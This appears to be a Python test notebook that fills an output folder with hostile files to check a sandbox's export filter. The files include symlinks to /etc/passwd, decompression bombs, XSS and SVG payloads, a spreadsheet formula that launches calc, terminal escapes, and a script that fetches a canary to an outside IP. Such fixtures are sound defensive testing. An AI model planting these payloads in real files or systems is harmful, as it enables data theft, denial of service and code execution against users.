"""A notebook that leaves everything in its output folder but what it declared.

Each cell writes outputs of one sort; tests/sandbox/test_hostile_outputs.py says what the airlock
makes of each. MRS. MUSTER 1931 stands for a row of the data.
"""

# ruff: noqa: PTH102, PTH103, PTH114, PTH123, PTH208, PTH211

import io
import json
import lzma
import os
import pickle
import socket
import struct
import zipfile
import zlib

import phtlab

CANARY = "MRS. MUSTER 1931"
OUT = "/phtlab/out/outputs"
os.makedirs(OUT, exist_ok=True)


def index(name, kind):
    with open(f"{OUT}/{name}.json", "w") as file:
        json.dump({"name": CANARY, "kind": kind, "counts": CANARY, "files": [CANARY]}, file)


def write(name, kind, suffix, content):
    index(name, kind)
    with open(f"{OUT}/{name}{suffix}", "wb") as file:
        file.write(content if isinstance(content, bytes) else json.dumps(content).encode())


def table(cells, kind="string"):
    return {"columns": [{"name": "c", "type": kind}], "data": [cells]}


# %%
# Links, pipes, sockets, devices
for name, target in (
    ("link_data", "/data/heart/heart.csv"),
    ("link_host", "/etc/passwd"),
    ("link_up", "../../../../secret"),
    ("link_self", "link_self.table.json"),
):
    index(name, "table")
    os.symlink(target, f"{OUT}/{name}.table.json")
write("hard", "table", ".table.json", table(["a"]))
os.link(f"{OUT}/hard.table.json", f"{OUT}/hard.other")
index("pipe", "table")
os.mkfifo(f"{OUT}/pipe.table.json")
index("sock", "table")
listener = socket.socket(socket.AF_UNIX)
listener.bind(f"{OUT}/sock.table.json")
index("folder", "table")
os.mkdir(f"{OUT}/folder.table.json")
os.mkfifo(f"{OUT}/pipe_index.json")

# %%
# Bombs
packed = io.BytesIO()
with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
    archive.writestr("zeros", bytes(50_000_000))
write("zip_table", "table", ".table.json", packed.getvalue())
write("zip_scalar", "scalar", ".scalar.json", packed.getvalue())
write("xz_model", "model", ".safetensors", lzma.compress(bytes(20_000_000)))


def chunk(kind, content):
    check = zlib.crc32(kind + content)
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", check)


head = chunk(b"IHDR", struct.pack(">IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0))
picture = (
    b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(bytes(10**7))) + chunk(b"IEND", b"")
)
write("png_bomb", "figure", ".data.json", table([1], "integer"))
write("png_bomb", "figure", ".png", picture)
index("sparse", "table")
with open(f"{OUT}/sparse.table.json", "wb") as file:
    file.truncate(60 << 20)
write("deep", "table", ".table.json", b"[" * 100_000)
write(
    "nan",
    "table",
    ".table.json",
    b'{"columns": [{"name": "c", "type": "number"}], "data": [[NaN]]}',
)
write("digits", "table", ".table.json", b'{"columns": [], "data": [[' + b"9" * 1_000_000 + b"]]}")
write("parts", "table", ".table.json", b"[" + b"[]," * 1_000_000 + b"[]]")
write("twice", "scalar", ".scalar.json", b'{"value": 1, "value": 2}')

# %%
# What a viewer would run
write("script", "scalar", ".scalar.json", {"value": "<script>alert(1)</script>"})
svg = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
write("svg", "figure", ".data.json", table([1], "integer"))
write("svg", "figure", ".png", svg)
write("pickled", "model", ".safetensors", pickle.dumps({"coef": [1.0]}))
write(
    "npy", "model", ".safetensors", b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False}"
)
write("joblib", "table", ".table.json", zlib.compress(pickle.dumps([1])))
write("formula", "table", ".table.json", table(["=cmd|' /C calc'!A0"]))
write("escapes", "table", ".table.json", table(["\x1b[2J\x1b]0;x\x07"]))
write("bidi", "table", ".table.json", table(["\u202egnp.exe"]))
for bundle in (
    {"text/html": f"<script>fetch('http://192.0.2.1/{CANARY}')</script>"},
    {"application/javascript": f"alert('{CANARY}')"},
    {"image/svg+xml": svg.decode()},
    {"application/vnd.jupyter.widget-view+json": {"model_id": CANARY}},
):
    display(bundle, raw=True, metadata={CANARY: CANARY})  # noqa: F821
print(f"\x1b[2J\x1b]0;{CANARY}\x07")

# %%
# Numbers that say more than they should
write("rows", "table", ".table.json", table(list(range(1001)), "integer"))
write("bits", "table", ".table.json", table([0.123456789012345, 1234567.891], "number"))

# %%
# An honest output, with all that surrounds it made to speak
heart = phtlab.dataset("heart")
counts = heart.groupby("sex").size().rename("n").reset_index()
phtlab.publish("counts", counts, counts="n")
index("counts", "table")
for name in os.listdir(OUT):
    if not os.path.islink(f"{OUT}/{name}"):
        os.utime(f"{OUT}/{name}", (19310101, 19310101))
with open("/phtlab/out/" + CANARY, "w") as file:
    file.write(CANARY)
with open("/phtlab/out/progress.json", "w") as file:
    json.dump({"done": 1931, "cells": 1931, "said": CANARY}, file)
